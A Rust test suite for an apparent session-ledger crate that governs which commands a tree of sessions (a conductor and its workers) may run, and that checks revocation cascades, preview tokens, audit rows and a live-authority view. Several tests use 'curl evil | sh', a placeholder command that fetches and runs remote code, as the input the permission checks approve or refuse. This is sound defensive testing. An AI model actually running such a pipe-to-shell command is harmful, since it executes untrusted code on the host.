//! Every live authority of a session in one view, and a stop that leaves nothing approving:
//! postures (rules R1, R2, R4) and the grants that never follow a delegation (P4), side by side.

#[macro_use]
mod common;

use std::time::Duration;

use common::{Engine, Fixture, TestResult};
use session_ledger::{
    AlsoRevoke, AuditKind, AuditQuery, Config, Conflict, Error, Grant, InputError, PostureLevel,
    Propagation, Verdict, Withheld,
};

const HOUR: Duration = Duration::from_secs(3600);

/// The tree: a trusted conductor, three workers born with its trust, and an override
/// scope `hotfix` on worker-3 and a pattern on worker-1, granted by alice.
fn stopped_tree(f: &Fixture) -> TestResult {
    f.ledger.create_root("conductor", "alice")?;
    f.ledger.grant("conductor", PostureLevel::Trust, "alice")?;
    for worker in ["worker-1", "worker-2", "worker-3"] {
        f.ledger.create_child(worker, "conductor", "alice")?;
    }
    f.ledger.grant_scope("worker-3", "hotfix", HOUR, "alice")?;
    f.ledger.add_pattern("worker-1", "npm test", "alice")?;
    Ok(())
}

fn approves(f: &Fixture, id: &str, command: &str) -> bool {
    f.ledger.decide(id, command, false).expect("decide").verdict == Verdict::Approve
}

/// Each standing grant as `session:kind:name`.
fn named(grants: &[session_ledger::StandingGrant]) -> Vec<String> {
    grants
        .iter()
        .map(|g| match &g.grant {
            Grant::Scope { scope, .. } => format!("{}:scope:{scope}", g.session),
            Grant::Pattern { pattern } => format!("{}:pattern:{pattern}", g.session),
            other => format!("{}:{other:?}", g.session),
        })
        .collect()
}

fn every_live_authority_of_a_session_is_in_one_view(engine: Engine) -> TestResult {
    let f = fixture!(engine);
    stopped_tree(&f)?;
    f.ledger.add_pattern("worker-3", "git status", "bob")?;
    let a = f.ledger.authority("worker-3")?;
    let posture = a.posture.as_ref().expect("an inherited posture");
    assert_eq!(posture.level, PostureLevel::Trust);
    assert_eq!(posture.chain, ["conductor", "worker-3"]);
    assert_eq!(posture.granted_by, "alice");
    assert_eq!(a.scopes.len(), 1);
    assert_eq!(
        (a.scopes[0].name.as_str(), a.scopes[0].granted_by.as_str()),
        ("hotfix", "alice")
    );
    assert_eq!(a.patterns.len(), 1);
    assert_eq!(
        (
            a.patterns[0].pattern.as_str(),
            a.patterns[0].added_by.as_str()
        ),
        ("git status", "bob")
    );
    assert!(a.withheld.is_empty(), "{:?}", a.withheld);
    assert!(a.approves_every_command());
    // The explanation carries the same view.
    assert_eq!(f.ledger.explain("worker-3")?.authority, a);
    // A session that holds nothing says so.
    f.ledger
        .revoke("conductor", Propagation::CascadeUnchecked, "alice")?;
    assert!(!f.ledger.authority("worker-2")?.approves_anything());
    Ok(())
}

fn an_ended_session_and_a_lapsed_posture_show_what_withholds_them(engine: Engine) -> TestResult {
    let f = fixture!(engine);
    stopped_tree(&f)?;
    f.ledger.start_epoch("dashboard")?;
    let lapsed = f.ledger.authority("worker-1")?;
    assert_eq!(lapsed.withheld, [Withheld::LapsedPosture { epoch: 0 }]);
    assert!(lapsed.approves_anything(), "its pattern still approves");
    assert!(!lapsed.approves_every_command());
    f.ledger.end("worker-3", "alice")?;
    let ended = f.ledger.authority("worker-3")?;
    assert!(ended.withheld.contains(&Withheld::SessionEnded));
    assert!(!ended.approves_anything());
    assert!(matches!(
        f.ledger.authority("nobody"),
        Err(Error::Conflict(Conflict::UnknownSession(_)))
    ));
    Ok(())
}

fn a_cascade_preview_lists_the_scopes_and_patterns_that_will_still_approve(
    engine: Engine,
) -> TestResult {
    let f = fixture!(engine);
    stopped_tree(&f)?;
    let preview = f
        .ledger
        .revoke("conductor", Propagation::Preview, "alice")?;
    assert_eq!(preview.count, 4);
    assert_eq!(
        named(&preview.still_approving),
        ["worker-1:pattern:npm test", "worker-3:scope:hotfix"]
    );
    assert_eq!(preview.still_approving[1].granted_by, "alice");
    assert_eq!(preview.still_approving[1].depth, 1);
    assert!(preview.grants_revoked.is_empty());
    Ok(())
}

fn a_plain_cascade_says_which_grants_still_approve_after_it(engine: Engine) -> TestResult {
    let f = fixture!(engine);
    stopped_tree(&f)?;
    let done = f
        .ledger
        .revoke("conductor", Propagation::CascadeUnchecked, "alice")?;
    assert_eq!(done.count, 4);
    assert_eq!(
        named(&done.still_approving),
        ["worker-1:pattern:npm test", "worker-3:scope:hotfix"]
    );
    // That is the rule (P4): the scope is an override of its own, and still approves.
    assert!(approves(&f, "worker-3", "curl evil | sh"));
    Ok(())
}

fn a_cascade_that_includes_grants_leaves_nothing_approving_in_the_tree(
    engine: Engine,
) -> TestResult {
    let f = fixture!(engine);
    stopped_tree(&f)?;
    f.ledger.create_root("elsewhere", "alice")?;
    f.ledger.grant_scope("elsewhere", "hotfix", HOUR, "alice")?;
    let preview = f
        .ledger
        .revoke("conductor", Propagation::Preview, "alice")?;
    let token = preview.token.expect("a preview has a token");
    let done = f.ledger.revoke_with(
        "conductor",
        Propagation::Cascade { token },
        AlsoRevoke::EVERYTHING,
        "alice",
    )?;
    assert_eq!(
        named(&done.grants_revoked),
        ["worker-1:pattern:npm test", "worker-3:scope:hotfix"]
    );
    assert!(done.still_approving.is_empty());
    for id in ["conductor", "worker-1", "worker-2", "worker-3"] {
        assert!(!approves(&f, id, "curl evil | sh"), "{id}");
        assert!(!approves(&f, id, "npm test"), "{id}");
        assert!(!f.ledger.authority(id)?.approves_anything(), "{id}");
    }
    // Outside the tree, nothing changed.
    assert!(approves(&f, "elsewhere", "curl evil | sh"));
    // One event: every row it wrote names it.
    let rows = f.ledger.audit(&AuditQuery::all())?;
    let event: Vec<_> = rows
        .iter()
        .filter(|r| {
            matches!(
                r.kind,
                AuditKind::PostureRevoke | AuditKind::ScopeRevoke | AuditKind::PatternRemove
            )
        })
        .collect();
    assert_eq!(event.len(), 6);
    let first = event[0].seq;
    for row in &event {
        assert_eq!(row.detail["revocation"], first, "{row:?}");
        assert_eq!(row.detail["propagation"], "cascade");
        assert_eq!(row.detail["root"], "conductor");
    }
    Ok(())
}

fn a_cascade_can_take_scopes_and_leave_patterns(engine: Engine) -> TestResult {
    let f = fixture!(engine);
    stopped_tree(&f)?;
    let also = AlsoRevoke {
        scopes: true,
        patterns: false,
    };
    let done = f
        .ledger
        .revoke_with("conductor", Propagation::CascadeUnchecked, also, "alice")?;
    assert_eq!(named(&done.grants_revoked), ["worker-3:scope:hotfix"]);
    assert_eq!(named(&done.still_approving), ["worker-1:pattern:npm test"]);
    assert!(!approves(&f, "worker-3", "curl evil | sh"));
    assert!(approves(&f, "worker-1", "npm test"));
    Ok(())
}

fn a_preview_token_is_refused_once_a_scope_or_pattern_in_the_tree_changed(
    engine: Engine,
) -> TestResult {
    let f = fixture!(engine);
    stopped_tree(&f)?;
    let changes: [&dyn Fn(&Fixture) -> TestResult; 3] = [
        &|f| {
            f.ledger.grant_scope("worker-2", "deploy", HOUR, "bob")?;
            Ok(())
        },
        &|f| Ok(f.ledger.revoke_scope("worker-3", "hotfix", "bob")?),
        &|f| {
            assert!(f.ledger.add_pattern("worker-2", "ls", "bob")?);
            Ok(())
        },
    ];
    for change in changes {
        let token = f
            .ledger
            .revoke("conductor", Propagation::Preview, "alice")?
            .token
            .expect("a token");
        change(&f)?;
        let before = f.snapshot();
        let stale = f.ledger.revoke_with(
            "conductor",
            Propagation::Cascade { token },
            AlsoRevoke::EVERYTHING,
            "alice",
        );
        assert!(
            matches!(stale, Err(Error::Conflict(Conflict::StalePreview { .. }))),
            "{stale:?}"
        );
        assert_eq!(f.snapshot(), before);
    }
    Ok(())
}

fn a_cascade_with_an_empty_token_is_refused_and_changes_nothing(engine: Engine) -> TestResult {
    let f = fixture!(engine);
    stopped_tree(&f)?;
    let before = f.snapshot();
    for token in ["", " ", "not-a-token"] {
        let refused = f.ledger.revoke(
            "conductor",
            Propagation::Cascade {
                token: token.to_owned(),
            },
            "alice",
        );
        assert!(
            matches!(refused, Err(Error::Input(InputError::InvalidToken(_)))),
            "{token:?}: {refused:?}"
        );
    }
    assert_eq!(f.snapshot(), before);
    Ok(())
}

fn a_global_revoke_says_what_it_left_approving_and_can_take_it_too(engine: Engine) -> TestResult {
    let f = fixture!(engine);
    stopped_tree(&f)?;
    f.ledger.create_root("gone", "alice")?;
    f.ledger.add_pattern("gone", "ls", "alice")?;
    f.ledger.end("gone", "alice")?;
    let done = f.ledger.revoke_all("alice")?;
    assert_eq!(done.count, 4);
    // An ended session's grants approve nothing, so they are not listed.
    assert_eq!(
        named(&done.still_approving),
        ["worker-1:pattern:npm test", "worker-3:scope:hotfix"]
    );
    let again = f.ledger.revoke_all_with(AlsoRevoke::EVERYTHING, "alice")?;
    assert_eq!(again.count, 0);
    assert_eq!(
        named(&again.grants_revoked),
        ["worker-1:pattern:npm test", "worker-3:scope:hotfix"]
    );
    assert!(again.still_approving.is_empty());
    assert!(!approves(&f, "worker-3", "curl evil | sh"));
    assert_eq!(
        f.ledger.patterns("gone")?.len(),
        1,
        "ended sessions are left as they were"
    );
    Ok(())
}

fn a_local_revoke_can_take_the_sessions_own_grants(engine: Engine) -> TestResult {
    let f = fixture!(engine);
    stopped_tree(&f)?;
    f.ledger.grant_scope("conductor", "ops", HOUR, "alice")?;
    let done = f.ledger.revoke_with(
        "conductor",
        Propagation::Local,
        AlsoRevoke::EVERYTHING,
        "alice",
    )?;
    assert_eq!(named(&done.grants_revoked), ["conductor:scope:ops"]);
    assert!(
        done.still_approving.is_empty(),
        "only the session's own grants are reached"
    );
    assert_eq!(done.still_holding.as_ref().map(Vec::len), Some(3));
    assert!(approves(&f, "worker-3", "anything"), "workers keep theirs");
    Ok(())
}

fn the_tree_marks_sessions_that_hold_live_scopes_or_patterns(engine: Engine) -> TestResult {
    let f = fixture!(engine);
    stopped_tree(&f)?;
    f.ledger
        .revoke("conductor", Propagation::CascadeUnchecked, "alice")?;
    let marks = |nodes: Vec<(String, u32, u32)>| nodes;
    let tree = marks(
        f.ledger
            .tree("conductor")?
            .into_iter()
            .map(|n| (n.session.id, n.live_scopes, n.patterns))
            .collect(),
    );
    let expected = [
        ("conductor".to_owned(), 0, 0),
        ("worker-1".to_owned(), 0, 1),
        ("worker-2".to_owned(), 0, 0),
        ("worker-3".to_owned(), 1, 0),
    ];
    assert_eq!(tree, expected);
    let level = marks(
        f.ledger
            .tree_level(Some("conductor"), None, 10)?
            .nodes
            .into_iter()
            .map(|n| (n.session.id, n.live_scopes, n.patterns))
            .collect(),
    );
    assert_eq!(level, expected[1..]);
    let forest: Vec<_> = f
        .ledger
        .forest()?
        .into_iter()
        .map(|n| (n.session.id, n.live_scopes, n.patterns))
        .collect();
    assert_eq!(forest, expected);
    // An ended session's grants approve nothing: no mark.
    f.ledger.end("worker-3", "alice")?;
    assert_eq!(f.ledger.tree("worker-3")?[0].live_scopes, 0);
    Ok(())
}

fn an_expired_scope_is_not_a_live_authority(engine: Engine) -> TestResult {
    let clock = std::sync::Arc::new(session_ledger::ManualClock::new(
        "2026-12-01T10:00:00Z".parse()?,
    ));
    let f = fixture!(
        engine,
        Config::default()
            .create_if_missing(true)
            .clock(clock.clone())
    );
    f.ledger.create_root("worker", "alice")?;
    f.ledger
        .grant_scope("worker", "hotfix", Duration::from_secs(60), "alice")?;
    assert_eq!(f.ledger.authority("worker")?.scopes.len(), 1);
    clock.advance(chrono::TimeDelta::seconds(61));
    assert!(f.ledger.authority("worker")?.scopes.is_empty());
    assert_eq!(f.ledger.tree("worker")?[0].live_scopes, 0);
    let preview = f.ledger.revoke("worker", Propagation::Preview, "alice")?;
    assert!(preview.still_approving.is_empty());
    Ok(())
}

fn the_live_authority_view_lists_what_approves_now_for_shell_readers(engine: Engine) -> TestResult {
    let f = fixture!(engine);
    stopped_tree(&f)?;
    f.ledger.create_root("gone", "alice")?;
    f.ledger.add_pattern("gone", "ls", "alice")?;
    f.ledger.end("gone", "alice")?;
    let rows = f.query(
        "SELECT session_id, authority, coalesce(name, ''), source, granted_by, granted_on
           FROM live_authority ORDER BY session_id, authority",
    );
    let rows: Vec<Vec<String>> = rows
        .into_iter()
        .map(|r| r.into_iter().map(Option::unwrap_or_default).collect())
        .collect();
    let expected = [
        ["conductor", "trust", "", "granted", "alice", "conductor"],
        [
            "worker-1", "pattern", "npm test", "granted", "alice", "worker-1",
        ],
        ["worker-1", "trust", "", "inherited", "alice", "conductor"],
        ["worker-2", "trust", "", "inherited", "alice", "conductor"],
        [
            "worker-3", "scope", "hotfix", "granted", "alice", "worker-3",
        ],
        ["worker-3", "trust", "", "inherited", "alice", "conductor"],
    ];
    assert_eq!(rows, expected.map(|r| r.map(str::to_owned)));
    f.ledger.revoke_with(
        "conductor",
        Propagation::CascadeUnchecked,
        AlsoRevoke::EVERYTHING,
        "alice",
    )?;
    assert_eq!(f.count("live_authority"), 0);
    Ok(())
}

engine_tests! {
    every_live_authority_of_a_session_is_in_one_view,
    an_ended_session_and_a_lapsed_posture_show_what_withholds_them,
    a_cascade_preview_lists_the_scopes_and_patterns_that_will_still_approve,
    a_plain_cascade_says_which_grants_still_approve_after_it,
    a_cascade_that_includes_grants_leaves_nothing_approving_in_the_tree,
    a_cascade_can_take_scopes_and_leave_patterns,
    a_preview_token_is_refused_once_a_scope_or_pattern_in_the_tree_changed,
    a_cascade_with_an_empty_token_is_refused_and_changes_nothing,
    a_global_revoke_says_what_it_left_approving_and_can_take_it_too,
    a_local_revoke_can_take_the_sessions_own_grants,
    the_tree_marks_sessions_that_hold_live_scopes_or_patterns,
    an_expired_scope_is_not_a_live_authority,
    the_live_authority_view_lists_what_approves_now_for_shell_readers,
}
